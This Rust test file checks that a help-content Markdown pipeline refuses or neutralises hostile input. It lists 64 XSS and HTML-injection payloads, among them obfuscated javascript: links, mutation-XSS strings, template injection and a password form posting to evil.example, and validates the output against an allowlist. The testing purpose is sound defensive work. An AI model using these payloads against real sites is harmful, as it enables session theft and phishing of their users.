//! Hostile content, held against every form in which help goes out. Staff can publish it and an attacker may have got hold
//! of an editor: it is either refused with its place, or harmless wherever a portal puts it, also where the portal renders
//! the Markdown itself without cleaning what comes out.

use pulldown_cmark::{Options, Parser, html};
use scraper::{Html, Node};

use super::tests::small;
use super::*;

const HOSTILE: [&str; 64] = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" alt=\"",
    "![x](https://evil.example/track.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x\" onerror=\"alert(1)](images/x.png)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:https://evil.example)",
    "[x](https://evil.example \"title\\\" onclick=\\\"alert(1)\")",
    "[x](https://evil.example\"onmouseover=\"alert(1))",
    "[x](https://evil.example/'><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onclick=\"alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><style></title><img src=x onerror=alert(1)></style>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed\" onclick=\"alert(1)\" class=\"x\" id=\"y\">x</p>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.example\"><input name=password><button>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "| a |\n|:-:|\n| <b onmouseover=alert(1)>x</b> |",
    "```\"onload=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "</details></div></main><h1>x</h1>",
    "**bold *nested** wrong*\n\n> > > deep\n- list\n    1. </ul><script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "\\{\\{constructor.constructor('alert(1)')()}}",
];

/// Everything that may stand in a page, whatever the text was.
fn mistakes(html: &str) -> Vec<String> {
    let tree = Html::parse_fragment(html);
    let mut mistakes = Vec::new();
    for node in tree.tree.nodes() {
        match node.value() {
            Node::Comment(comment) => mistakes.push(format!("a comment: {comment:?}")),
            Node::Element(element) => {
                let plain = [
                    "html",
                    "body",
                    "a",
                    "blockquote",
                    "br",
                    "code",
                    "em",
                    "h1",
                    "h2",
                    "h3",
                    "h4",
                    "h5",
                    "h6",
                    "hr",
                    "img",
                    "li",
                    "ol",
                    "p",
                    "pre",
                    "strong",
                    "table",
                    "tbody",
                    "td",
                    "th",
                    "thead",
                    "tr",
                    "ul",
                ];
                if !plain.contains(&element.name()) {
                    mistakes.push(format!("an element <{}>", element.name()));
                }
                for (name, value) in element.attrs() {
                    let is_plain = match name {
                        "href" => ["https://", "http://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                        "src" => value.starts_with("https://id.example.jp/help/v1/images/"),
                        "rel" => value == "noopener noreferrer",
                        "start" | "width" | "height" => value.parse::<u32>().is_ok(),
                        "alt" | "loading" | "title" => true,
                        // What a renderer makes of the words after a code fence and of a column's direction.
                        "class" => value.starts_with("language-"),
                        "style" => value.starts_with("text-align: "),
                        _ => false,
                    };
                    if !is_plain {
                        mistakes.push(format!("an attribute {name}={value:?}"));
                    }
                }
            }
            _ => {}
        }
    }
    mistakes
}

#[test]
fn hostile_texts_are_refused_or_harmless_in_every_form() {
    let mut refused = 0;
    for hostile in HOSTILE {
        let file = format!("+++\nquestion = \"Q\"\ncategory = \"c\"\norder = 1\n+++\nBefore.\n\n{hostile}\n\nAfter.\n");
        let content = match small(&[("ja/faq/q.md", &file)]) {
            Ok(content) => content,
            Err(HelpProblems(problems)) => {
                assert!(problems.iter().all(|p| p.file == "ja/faq/q.md" && p.line >= 6), "{hostile}: {problems:?}");
                refused += 1;
                continue;
            }
        };
        let body = &content.in_locale("ja").question("q").expect("it is there").1.answer;
        assert_eq!(mistakes(&body.html), [""; 0], "{hostile} became {}", body.html);
        // As a portal would render it that trusts what it gets.
        let mut by_portal = String::new();
        html::push_html(&mut by_portal, Parser::new_ext(&body.markdown, Options::all()));
        assert_eq!(mistakes(&by_portal), [""; 0], "{hostile} became {by_portal}");
        for form in [&body.html, &body.markdown, &body.text] {
            assert!(!form.contains("{{"), "{hostile} became {form}");
        }
    }
    assert!(refused > 40, "{refused}");
}

#[test]
fn hostile_titles_stay_words() {
    for hostile in ["<script>alert(1)</script>", "</title></script><img src=x onerror=alert(1)>", "# **x** [y](z)"] {
        let file = format!("+++\nquestion = {hostile:?}\ncategory = \"c\"\norder = 1\ntags = [{hostile:?}]\n+++\nA\n");
        let content = small(&[("ja/faq/q.md", &file)]).expect("it is sound");
        let help = content.in_locale("ja");
        assert_eq!(help.question("q").expect("it is there").1.question, hostile);
        let (_, found) = help.search("script img");
        let marked = found.title(hostile).html();
        let tree = Html::parse_fragment(&marked);
        let elements = tree.root_element().descendent_elements().skip(1);
        assert!(elements.into_iter().all(|element| element.value().name() == "mark"), "{marked}");
    }
}
